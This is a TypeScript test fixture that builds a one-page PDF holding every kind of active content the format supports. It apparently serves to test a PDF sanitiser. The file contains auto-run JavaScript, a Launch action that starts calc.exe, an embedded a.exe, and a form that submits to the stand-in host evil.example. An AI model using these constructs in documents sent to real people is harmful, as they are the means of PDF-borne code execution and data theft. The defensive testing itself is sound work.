/** A voucher that acts in every way the format knows. */
import { ONE_PAGE, page, rawPdf, rawStream } from './slips.ts';

/** One page with every kind of active content the format knows, and a form field whose appearance is to stay. */
export function activePdf(): Uint8Array {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const program = '<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>';
  const link =
    '<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (http://evil.example) >> >>';
  const sending =
    '<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [10 10 90 30] /AP << /N 8 0 R >> ' +
    '/A << /S /SubmitForm /F (http://evil.example) >> /AA << /E 6 0 R >> >>';
  const carrying = '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 9 0 R /A 7 0 R >>';
  const appearance = rawStream(
    '/Type /XObject /Subtype /Form /BBox [0 0 80 20] /PieceInfo << /X << /JS (x) >> >> /Resources << /Font << /F 12 0 R >> >>',
    Buffer.from('0 0 80 20 re f'),
  );
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [5 0 R] /XFA (x) >> ' +
      '/Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(f) 9 0 R] >> >> >>',
    ONE_PAGE,
    page(
      '/Contents 4 0 R /AA << /O 6 0 R >> /Annots [5 0 R 11 0 R 13 0 R] /Metadata 10 0 R ' +
        '/Resources << /Font << /A 12 0 R >> /Properties << /M << /AA 6 0 R /F 9 0 R >> >> >>',
    ),
    rawStream('', Buffer.from('BT /A 12 Tf 40 200 Td (ACTIVE 1/1) Tj ET')),
    sending,
    script,
    program,
    appearance,
    '<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>',
    rawStream('/Type /EmbeddedFile', Buffer.from('MZ')),
    link,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    carrying,
  ]);
}
